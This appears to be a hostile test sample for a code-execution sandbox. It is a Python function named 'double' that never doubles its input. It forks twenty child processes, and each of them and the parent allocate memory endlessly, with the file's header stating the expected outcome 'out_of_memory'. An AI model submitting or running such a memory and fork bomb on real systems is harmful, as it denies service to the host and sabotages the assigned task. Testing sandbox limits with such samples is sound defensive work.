# task: double
# outcome: out_of_memory
# attack: many children share the theft of memory
import os


def double(x):
    for _ in range(20):
        if os.fork() == 0:
            kept = []
            while True:
                kept.append(bytearray(1 << 22))
    kept = []
    while True:
        kept.append(bytearray(1 << 22))
